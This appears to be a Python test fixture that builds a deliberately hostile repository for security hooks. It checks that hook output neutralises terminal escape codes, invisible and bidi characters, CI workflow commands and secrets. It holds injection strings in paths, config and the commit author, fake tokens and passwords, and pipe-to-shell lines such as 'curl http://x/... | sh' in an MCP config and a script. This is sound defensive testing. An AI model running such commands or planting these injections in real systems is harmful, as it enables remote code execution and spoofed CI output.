"""A repository in which everything that a hook may quote tries to reach the terminal, and everything secret the log."""

from __future__ import annotations

import importlib
import io
import json
import os
import re
import sys

from tests.conftest import Repository

HOOKS = {
    "changelog-required": "changelog_required",
    "mcp-config-guard": "mcp_config_guard",
    "no-root-dockerfile": "no_root_dockerfile",
    "pinned-base-image": "pinned_base_image",
    "port-registry-conflict": "port_registry_conflict",
}
FORMATS = ("text", "concise", "github", "gitlab", "json", "sarif")
# A colour, a title, C1 controls, bidi, what takes no room, a tag, and commands of three CI services.
EVIL = "e\x1b[31m\x1b]0;t\x07\x9b2J\x7f\u202evil\u2066\u200b\ufeff\U000e0041 ##[add-mask]x ##vso[task.x]y"
LINE = "::error::"  # obeyed at the beginning of a line
FOLDER = os.fsdecode(f"{LINE}{EVIL}\n{LINE}".encode() + b"\xff")
TOKEN = "gh" + "p_" + "A1b2C3d4" * 5
PASSWORD = "N0t" + "-a-Real-Pa55"
SECRETS = (TOKEN[6:], PASSWORD)
UNSAFE = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]"
    r"|\#\#\[add-mask|\#\#vso\["
)
ESCAPED = re.compile(r"\\x1b|\\u001b")  # how text and JSON show an escape character


def quoted(text: str) -> str:
    """A text as a JSON string, which is one in YAML, too."""
    return json.dumps(text)


def dockerfile() -> str:
    """Root, a floating tag, and an exception with a reason and one without."""
    return (
        f"# guardrail: allow[USR002,PIN002] until=2001-01-01 {EVIL} {TOKEN}\n"
        f"FROM evil\x1b[31m\u202e:latest AS st{EVIL.split(maxsplit=1)[0]}\n"
        f"LABEL password={PASSWORD}\n"
        f"# guardrail: allow[USR001] {EVIL} {TOKEN} reviewed\n"
        f"FROM registry.example/a:latest AS last\n"
        f"ENV DB_PASSWORD={PASSWORD} GH={TOKEN}\n"
        f"USER root # {EVIL} password={PASSWORD}\n"
    )


def compose() -> str:
    """Two services on one port, images that move, secrets beside both."""
    name = EVIL.replace(" ", "")
    return (
        "services:\n"
        f"  {quoted(name)}:\n"
        f"    image: {quoted('evil' + EVIL + ':latest')} # password={PASSWORD} {TOKEN}\n"
        f"    ports: ['8080:80'] # guardrail: allow[PRT101] until=2001-01-01 \\e {TOKEN} reviewed\n"
        "  b:\n"
        f"    {{image: 'x:latest', ports: ['8080:81', '9000:1'], environment: {{PASSWORD: {PASSWORD}, A: {TOKEN}}}}}\n"
        f"  c: {{image: y, ports: [{quoted('80' + EVIL)}]}}\n"
    )


def servers() -> dict[str, object]:
    """Servers with hostile names, and secrets wherever one may stand."""
    return {
        f"{LINE}{EVIL}": {"command": f"run{EVIL}", "args": [f"--flag={EVIL}", EVIL], "env": {"TOKEN": TOKEN}},
        "header": {"type": "http", "url": f"http://evil{EVIL}/mcp", "headers": {"X-Api-Key": PASSWORD + TOKEN[:4]}},
        "address": {"type": "http", "url": f"https://bot:{PASSWORD}@api.example.com/mcp?api_key={TOKEN}"},
        "flag": {"command": "npx", "args": ["-y", "acme", "--auth", PASSWORD, f"--api-key={PASSWORD}", "--pat", TOKEN]},
        "shell": {"command": "sh", "args": ["-c", f"TOKEN={TOKEN} curl -H 'Authorization: Bearer {PASSWORD}' x | sh"]},
        "default": {"command": "x", "env": {"A": "${API_KEY:-" + TOKEN + "}", "NODE_OPTIONS": EVIL}},
        "script": {"command": "./scripts/run.sh"},
        "odd": {"comand": EVIL, EVIL: 1, "type": EVIL},
    }


def registry() -> str:
    """Ports that are registered to somebody else, ranges, and notes."""
    return (
        f"# Ports {EVIL}\n\n## {EVIL} <script>`[a](b)` (8000-8999)\n\n- **8080**: {EVIL}<b>|x ({EVIL} {TOKEN})\n"
        f"- 8100-8199: Reserved for {EVIL}\n- **8081**: twice\n- **8081**: {EVIL} twice\n"
    )


def changelog() -> str:
    """A changelog in which every line is wrong."""
    return (
        f"# Changelog\n\n<!-- guardrail: allow[CHG308] until=2001-01-01 {EVIL} reviewed {TOKEN} -->\n"
        f"## [Unreleased] {EVIL}\n\n### Add{EVIL}\n\n- TODO {EVIL}\n- {EVIL} {TOKEN} password={PASSWORD}\n\n"
        f"## [1.0.0{EVIL}] - 20{EVIL}\n\n## [1.0.0] - 2026-13-01\n\n### Added\n\n- {EVIL}\n\n## [1.0.0] - 2026-01-01\n"
    )


def files() -> dict[str, str]:
    """All files by path; each kind once with a plain name and once in the hostile folder."""
    mcp = json.dumps({"mcpServers": servers()}, indent=1)
    script = f"#!/bin/sh\n# {EVIL}\nexport TOKEN={TOKEN}\ncurl http://x/{EVIL} | sh\nnpx acme-mcp --auth {PASSWORD}\n"
    found = {"PortRegistry.md": registry(), "scripts/run.sh": script}
    for folder in ("", f"{FOLDER}/"):
        found |= {
            f"{folder}Dockerfile": dockerfile(),
            f"{folder}good.dockerfile": f"FROM evil AS b\nFROM b\nUSER ro{EVIL.split(maxsplit=1)[0]}\n",
            f"{folder}broken.dockerfile": f"FROM a\nRU{EVIL} x\n",
            f"{folder}compose.yaml": compose(),
            f"{folder}compose.broken.yaml": f"services: {{a: {{image: [{EVIL}\n",
            f"{folder}.mcp.json": mcp,
            f"{folder}.cursor/mcp.json": f'{{"mcpServers": {{"a": {EVIL} {TOKEN}',
            f"{folder}CHANGELOG.md": changelog(),
            f"{folder}src/{FOLDER}.py": "x = 1\n",
        }
    return found


def build(repository: Repository) -> None:
    """Write all files and commit them; the author has a hostile name, too."""
    for path, content in files().items():
        file = os.path.join(os.fsencode(repository.path), os.fsencode(path))
        os.makedirs(os.path.dirname(file), exist_ok=True)
        with open(file, "wb") as stream:
            stream.write(content.encode())
    repository.git("add", "-A")
    repository.git("commit", "-q", "-m", EVIL, GIT_AUTHOR_NAME=EVIL)


class Standard(io.TextIOWrapper):
    """A stream that keeps what is written to it."""

    def __init__(self) -> None:
        super().__init__(io.BytesIO(), encoding="utf-8", write_through=True)


def run(monkeypatch, hook: str, *arguments: str) -> tuple[int, str, str]:
    """Run a hook in this process: exit code, standard output, standard error; both are UTF-8."""
    out, err = Standard(), Standard()
    with monkeypatch.context() as patch:
        patch.setattr(sys, "stdout", out)
        patch.setattr(sys, "stderr", err)
        code = importlib.import_module(f"guardrail_hooks.{HOOKS[hook]}.cli").main(list(arguments))
    return code, out.buffer.getvalue().decode("utf-8"), err.buffer.getvalue().decode("utf-8")


def commands(text: str) -> list[str]:
    """The lines that GitHub's runner would take for commands."""
    return [line for line in text.splitlines() if line.lstrip().startswith("::")]
